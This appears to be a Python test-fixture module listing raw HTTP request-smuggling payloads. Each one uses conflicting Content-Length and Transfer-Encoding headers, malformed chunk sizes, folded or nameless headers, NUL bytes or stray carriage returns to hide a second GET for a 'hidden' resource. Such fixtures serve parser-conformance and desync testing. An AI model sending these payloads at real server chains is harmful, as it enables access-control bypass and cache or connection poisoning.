"""Requests that two servers read differently."""

from __future__ import annotations

GET = b"GET /victim?service=SOS&request=GetCapabilities HTTP/1.1\r\nHost: h\r\n"
POST = b"POST /victim HTTP/1.1\r\nHost: h\r\nContent-Type: text/xml\r\n"
HIDDEN = b"GET /victim?service=SOS&request=GetCapabilities&sections=hidden HTTP/1.1\r\nHost: h\r\n\r\n"
SMUGGLED = {
    "both lengths": POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: 90\r\n\r\n" + HIDDEN,
    "a signed length": POST + b"Content-Length: +3\r\n\r\nabc" + HIDDEN,
    "a length with a blank": POST + b"Content-Length: 3 0\r\n\r\nabc" + HIDDEN,
    "an unknown coding": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a coding with a blank": POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a coding twice": POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a folded header": POST + b"X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + HIDDEN,
    "a chunk size that is none": POST + b"Transfer-Encoding: chunked\r\n\r\n0x3\r\nabc\r\n0\r\n\r\n" + HIDDEN,
    "a chunk size with a sign": POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\nabc\r\n0\r\n\r\n" + HIDDEN,
    "a nul in a header": GET + b"X: a\0b\r\n\r\n",
    "a header without a name": GET + b": a\r\n\r\n",
    "a blank in a name": GET + b"X y: a\r\n\r\n",
    "line ends in a target": b"GET /victim?\rX: y HTTP/1.1\r\nHost: h\r\n\r\n",
}
